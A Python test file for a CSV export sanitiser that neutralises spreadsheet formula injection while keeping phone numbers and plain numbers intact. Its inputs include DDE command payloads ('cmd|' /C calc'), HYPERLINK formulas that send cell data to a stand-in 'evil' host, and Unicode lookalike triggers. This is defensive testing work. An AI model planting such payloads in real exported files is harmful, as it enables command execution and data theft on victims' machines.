"""Spreadsheet-safe cells: formulas neutralised, numbers and phone numbers untouched."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from campaigns.csvsafe import FORMULA_TRIGGERS, is_phone_like, is_plain_number, safe_cell, safe_row

DANGEROUS_START = tuple(FORMULA_TRIGGERS)


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil","x")',
        "@SUM(A1:A2)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        '+1+HYPERLINK("x")',
        "-A1",
        "+",
        "-",
        "\t=1",
        "\r=1",
        "\tplain text after a tab",
        "-- note",
        "+91 98765 43210 ext=1",
        "+٣٤٥",  # non-ASCII digits are not numbers to a spreadsheet
    ],
)
def test_formulas_are_prefixed(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "+919876543210",
        "+1 (555) 123-4567",
        "+44 20 7946 0958",
        "-12.5",
        "+3",
        "-.5",
        "1e-3",
        "-1E+10",
        "12",
        "",
        "hello = world",
        "'=already quoted",
        " =leading space",
        "प्रिया",
        "a,b\nc",
    ],
)
def test_safe_cells_are_unchanged(cell: str) -> None:
    assert safe_cell(cell) == cell


@given(st.text())
def test_no_output_starts_dangerously_unless_number_or_phone(cell: str) -> None:
    out = safe_cell(cell)
    if out.startswith(DANGEROUS_START):
        assert out == cell
        assert out[0] in "+-"
        assert is_plain_number(out) or is_phone_like(out)
        # only digits and phone punctuation: nothing that can name a function or a target
        assert set(out[1:]) <= set("0123456789 ().-+eE")


@given(st.text())
def test_neutralising_is_lossless_and_only_for_triggers(cell: str) -> None:
    out = safe_cell(cell)
    if out != cell:
        assert out == "'" + cell
        assert cell[0] in FORMULA_TRIGGERS
    if not cell or cell[0] not in FORMULA_TRIGGERS:
        assert out == cell


@given(
    st.from_regex(r"\+[1-9][0-9]{6,14}", fullmatch=True)
    | st.from_regex(r"[+-]?[0-9]{1,9}(\.[0-9]{1,6})?", fullmatch=True)
)
def test_e164_and_plain_numbers_stay_exactly(cell: str) -> None:
    assert safe_cell(cell) == cell


@given(st.lists(st.text()))
def test_safe_row_is_safe_cell_per_cell(cells: list[str]) -> None:
    assert safe_row(cells) == [safe_cell(c) for c in cells]


@pytest.mark.parametrize(
    "cell",
    [
        "＝1+1",
        '＝HYPERLINK("http://evil/?"&A1)',
        "＋cmd|' /C calc'!A0",
        "－2+3+cmd|' /C calc'!A0",
        "＠SUM(A1:A2)",
        "﹦1+1",
        "﹢cmd|' /C calc'!A0",
        "﹣A1",
        "﹫SUM(A1)",
        "⁼1+1",
        "−A1",
    ],
)
def test_full_width_and_other_lookalike_triggers_are_neutralised(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell
    assert safe_row([cell, "+919876543210"]) == ["'" + cell, "+919876543210"]


def test_the_lookalike_list_is_every_nfkc_trigger() -> None:
    """Recomputed from the Unicode database: any character a spreadsheet's NFKC normalisation
    would turn into a leading =, +, - or @ is in the list."""
    import sys
    import unicodedata

    from campaigns.csvsafe import LOOKALIKE_TRIGGERS

    computed = {
        c
        for c in map(chr, range(sys.maxunicode + 1))
        if c not in "=+-@" and unicodedata.normalize("NFKC", c)[:1] in ("=", "+", "-", "@")
    }
    assert computed <= LOOKALIKE_TRIGGERS
    assert LOOKALIKE_TRIGGERS - computed == {"\u2212"}


@pytest.mark.parametrize("cell", ["+919876543210", "+1 (415) 555-2671", "-12.5", "+3"])
def test_ascii_numbers_and_e164_are_still_unchanged(cell: str) -> None:
    assert safe_cell(cell) == cell
